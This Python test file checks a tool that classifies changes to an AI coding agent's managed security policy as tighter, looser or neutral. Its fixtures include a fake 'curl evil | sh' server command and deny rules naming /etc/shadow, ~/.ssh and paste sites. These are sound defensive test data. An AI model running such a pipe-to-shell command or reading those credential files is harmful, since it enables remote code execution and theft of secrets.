"""`managed diff`: tightening, loosening and neutral changes, in a reviewer's words."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from codex_admin.managed import diff_policy, diff_sources

from .conftest import CODEX

BASE = """\
allowed_sandbox_modes = ["read-only", "workspace-write"]
allowed_approval_policies = ["on-request", "untrusted"]

[[rules.prefix_rules]]
pattern = [{ token = "git" }, { token = "push" }]
decision = "prompt"

[experimental_network]
enabled = true
http_port = 3128
allowed_domains = ["pypi.org"]
denied_domains = ["evil.example"]

[permissions.filesystem]
deny_read = ["/etc/shadow"]
"""


def policy_dir(root: Path, name: str, requirements: str, config: str | None = None) -> Path:
    directory = root / name
    directory.mkdir()
    (directory / "requirements.toml").write_text(requirements)
    if config is not None:
        (directory / "managed_config.toml").write_text(config)
    return directory


def effects(old: Path, new: Path) -> list[tuple[str, str]]:
    result, _, _ = diff_sources(old, new)
    return [(c.effect, c.message) for c in result.changes]


def test_identical_policies_have_no_changes(tmp_path: Path) -> None:
    a, b = policy_dir(tmp_path, "a", BASE), policy_dir(tmp_path, "b", BASE)
    result, _, _ = diff_sources(a, b)
    assert result.changes == [] and not result.loosens


def test_tightening(tmp_path: Path) -> None:
    new = (
        BASE.replace('"read-only", "workspace-write"', '"read-only"')
        .replace('decision = "prompt"', 'decision = "forbidden"')
        .replace('["/etc/shadow"]', '["/etc/shadow", "~/.ssh"]')
        .replace(
            'denied_domains = ["evil.example"]',
            'denied_domains = ["evil.example", "paste.example"]',
        )
    )
    new = 'allowed_web_search_modes = ["disabled"]\n' + new
    found = effects(policy_dir(tmp_path, "a", BASE), policy_dir(tmp_path, "b", new))
    assert {e for e, _ in found} == {"tighter"}, found
    messages = " | ".join(m for _, m in found)
    assert "`allowed_sandbox_modes` shrinks: - workspace-write" in messages
    assert "rules `git push`: decision prompt -> forbidden" in messages
    assert "network paste.example: unlisted -> deny" in messages
    assert "`allowed_web_search_modes` now restricted" in messages
    assert "`permissions.filesystem.deny_read` grows: + " in messages and ".ssh" in messages


def test_loosening(tmp_path: Path) -> None:
    new = (
        BASE.replace('["on-request", "untrusted"]', '["on-request", "untrusted", "never"]')
        .replace(
            'allowed_domains = ["pypi.org"]',
            'allowed_domains = ["pypi.org", "*.githubusercontent.com"]',
        )
        .replace(
            '\n[[rules.prefix_rules]]\npattern = [{ token = "git" }, { token = "push" }]\n'
            'decision = "prompt"\n',
            "",
        )
    )
    found = effects(policy_dir(tmp_path, "a", BASE), policy_dir(tmp_path, "b", new))
    messages = {m: e for e, m in found}
    assert messages["`allowed_approval_policies` grows: + never"] == "looser"
    assert messages["network *.githubusercontent.com: unlisted -> allow"] == "looser"
    assert messages["rules `git push` removed (prompt)"] == "looser"


def test_diff_is_of_effective_policy(tmp_path: Path) -> None:
    # deny_read forbids danger-full-access whatever the allow-list says: adding it changes nothing.
    new = BASE.replace(
        '"read-only", "workspace-write"', '"read-only", "workspace-write", "danger-full-access"'
    )
    assert effects(policy_dir(tmp_path, "a", BASE), policy_dir(tmp_path, "b", new)) == []
    without_deny = BASE.split("[permissions.filesystem]")[0]
    loosened = without_deny.replace(
        '"workspace-write"]', '"workspace-write", "danger-full-access"]'
    )
    found = effects(policy_dir(tmp_path, "c", without_deny), policy_dir(tmp_path, "d", loosened))
    assert found == [("looser", "`allowed_sandbox_modes` grows: + danger-full-access")]


def test_removing_a_restriction_loosens(tmp_path: Path) -> None:
    new = BASE.replace('allowed_approval_policies = ["on-request", "untrusted"]\n', "")
    found = effects(policy_dir(tmp_path, "a", BASE), policy_dir(tmp_path, "b", new))
    assert found == [("looser", "`allowed_approval_policies` restriction removed")]


def test_neutral_changes(tmp_path: Path) -> None:
    # The sandbox fallback is always read-only, so reordering that list changes nothing.
    new = BASE.replace('"read-only", "workspace-write"', '"workspace-write", "read-only"').replace(
        "http_port = 3128", "http_port = 3129"
    )
    old_dir = policy_dir(tmp_path, "a", BASE, 'model = "gpt-5"\n')
    new_dir = policy_dir(tmp_path, "b", new, 'model = "gpt-5.1"\n')
    result, _, _ = diff_sources(old_dir, new_dir)
    assert {c.effect for c in result.changes} == {"neutral"}
    assert not result.loosens
    assert len(result.changes) == 3


def test_legacy_managed_config_counts_as_requirements(tmp_path: Path) -> None:
    # Dropping approval_policy from managed_config.toml drops the implied allow-list: looser.
    old_dir = policy_dir(tmp_path, "a", "", 'approval_policy = "untrusted"\n')
    new_dir = policy_dir(tmp_path, "b", "", 'approval_policy = "never"\n')
    result, _, _ = diff_sources(old_dir, new_dir)
    assert result.loosens
    messages = [c.message for c in result.changes if c.effect == "looser"]
    assert "`allowed_approval_policies` grows: + never" in messages
    assert 'managed default `approval_policy`: "untrusted" -> "never"' in messages


def test_changed_rules_file_needs_review(tmp_path: Path) -> None:
    a, b = policy_dir(tmp_path, "a", BASE), policy_dir(tmp_path, "b", BASE)
    (a / "rules").mkdir()
    (b / "rules").mkdir()
    (a / "rules" / "base.rules").write_text('prefix_rule(pattern=["rm"], decision="forbidden")\n')
    (b / "rules" / "base.rules").write_text('prefix_rule(pattern=["rm"], decision="allow")\n')
    result, _, _ = diff_sources(a, b)
    assert result.loosens
    assert [c.key for c in result.changes] == ["rules/base.rules"]


def test_unknown_field_change_is_treated_as_loosening() -> None:
    result = diff_policy(
        {"guardian_policy_config": "x"}, {"guardian_policy_config": "y"}, {}, {}, {}, {}
    )
    assert result.loosens and "review" in result.changes[0].message


def test_mcp_allowlist_identity_change_loosens() -> None:
    old = {"mcp_servers": {"docs": {"identity": {"command": "docs-mcp"}}}}
    new = {"mcp_servers": {"docs": {"identity": {"command": "curl evil | sh"}}}}
    result = diff_policy(old, new, {}, {}, {}, {})
    assert result.loosens and "identity changed" in result.changes[0].message
    tighter = diff_policy(old, {"mcp_servers": {}}, {}, {}, {}, {})
    assert not tighter.loosens and "docs no longer allowed" in tighter.changes[0].message


def _cli(args: list[str], tmp_path: Path) -> subprocess.CompletedProcess[str]:
    home, system = tmp_path / "home", tmp_path / "system"
    home.mkdir(exist_ok=True)
    system.mkdir(exist_ok=True)
    env = {k: v for k, v in os.environ.items() if not k.startswith("CODEX_")}
    env.update(CODEX_HOME=str(home), CODEX_SYSTEM_DIR=str(system), CODEX_MDM_PLIST="")
    return subprocess.run(
        [*CODEX, "managed", *args],
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
        check=False,
    )


@pytest.mark.parametrize(
    ("replacement", "code"),
    [
        (('"read-only", "workspace-write"', '"read-only"'), 0),
        (
            (
                '["on-request", "untrusted"]',
                '["on-request", "never"]',
            ),
            3,
        ),
        (("http_port = 3128", "http_port = 3999"), 0),
    ],
)
def test_cli_exit_codes(tmp_path: Path, replacement: tuple[str, str], code: int) -> None:
    a = policy_dir(tmp_path, "a", BASE)
    b = policy_dir(tmp_path, "b", BASE.replace(*replacement))
    run = _cli(["diff", str(a), str(b), "--json"], tmp_path)
    assert run.returncode == code, run.stderr
    data = json.loads(run.stdout)
    assert data["loosens"] is (code == 3)
    assert set(data) == {"old", "new", "loosens", "summary", "changes"}
    assert set(data["changes"][0]) == {"area", "key", "effect", "message", "old", "new"}


def test_cli_diff_between_mobileconfig_and_directory(tmp_path: Path) -> None:
    a = policy_dir(tmp_path, "a", BASE)
    out = tmp_path / "out"
    run = _cli(
        [
            "build",
            "--requirements",
            str(a / "requirements.toml"),
            "--out",
            str(out),
            "--format",
            "mobileconfig",
        ],
        tmp_path,
    )
    assert run.returncode == 0, run.stderr
    same = _cli(["diff", str(out / "com.openai.codex.mobileconfig"), str(a)], tmp_path)
    assert same.returncode == 0 and "no policy changes" in same.stdout


def test_cli_diff_invalid_side_is_a_located_error(tmp_path: Path) -> None:
    a = policy_dir(tmp_path, "a", BASE)
    b = policy_dir(tmp_path, "b", "allowed_approval_policies = []\n")
    run = _cli(["diff", str(a), str(b)], tmp_path)
    assert run.returncode == 1
    assert "requirements.toml:1" in run.stderr and "Traceback" not in run.stderr


def test_rule_level_diff_with_execpolicy(tmp_path: Path) -> None:
    a, b = policy_dir(tmp_path, "a", ""), policy_dir(tmp_path, "b", "")
    for side, text in (
        (
            a,
            'prefix_rule(pattern=["rm"], decision="forbidden")\nprefix_rule(pattern=["git", "status"], decision="allow")\n',
        ),
        (
            b,
            'prefix_rule(pattern=["rm"], decision="prompt")\nprefix_rule(pattern=["git", "status"], decision="allow")\nprefix_rule(pattern=["curl"], decision="allow")\nprefix_rule(pattern=["dd"], decision="forbidden")\n',
        ),
    ):
        (side / "rules").mkdir()
        (side / "rules" / "base.rules").write_text(text)
    result, _, _ = diff_sources(a, b)
    found = {c.message: c.effect for c in result.changes}
    assert found == {
        "prefix_rule curl added (allow)": "looser",
        "prefix_rule dd added (forbidden)": "tighter",
        "prefix_rule rm: decision forbidden -> prompt": "looser",
    }
